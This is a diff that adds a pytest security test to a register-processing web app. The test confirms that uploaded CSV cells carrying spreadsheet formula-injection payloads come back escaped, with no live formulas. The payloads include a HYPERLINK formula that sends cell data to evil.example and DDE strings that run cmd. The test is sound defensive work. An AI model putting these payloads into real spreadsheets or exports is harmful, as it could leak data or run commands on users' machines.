@@ -15,6 +15,7 @@ from pathlib import Path
 from typing import Any
 from urllib.parse import unquote
 
+import openpyxl
 import pytest
 
 from tests.conftest import make_resident
@@ -103,3 +104,27 @@ def test_crafted_query_strings_are_answered_not_server_errors(site: Site) -> Non
         assert answer.status_code == 200, query
     assert clerk.get(f"/jobs?page={huge}").status_code == 200
     assert admin.get(f"/admin/audit?page={huge}").status_code == 200
+
+
+# --- what comes back: no live formula, nothing invisible ------------------------------------------
+
+
+def test_no_cell_of_any_download_starts_a_formula(site: Site) -> None:
+    clerk = site.client("clerk_a")
+    payloads = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+cmd|' /C calc'!A0",
+                "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)", "\t=1+1", "=1+1"]  # fmt: skip
+    register = _register_csv([{"姓名": p, "备注": p, "现住址": p} for p in payloads])
+    job_id = _job_id(site.upload(clerk, ("公式.csv", register, "text/csv")))
+    site.wait(clerk, job_id)
+    rows = list(
+        csv.reader(io.StringIO(clerk.get(f"/jobs/{job_id}/download/csv").content.decode("utf-8-sig")))
+    )
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
+    for payload in payloads:  # kept, as text: an apostrophe in front, as Excel itself writes it
+        assert f"'{payload}" in cells
+    for kind in ("annotated", "errors", "results"):
+        book = openpyxl.load_workbook(io.BytesIO(clerk.get(f"/jobs/{job_id}/download/{kind}").content))
+        for sheet in book.worksheets:
+            for row in sheet.iter_rows():
+                assert not [c.coordinate for c in row if c.data_type == "f"], (kind, sheet.title)
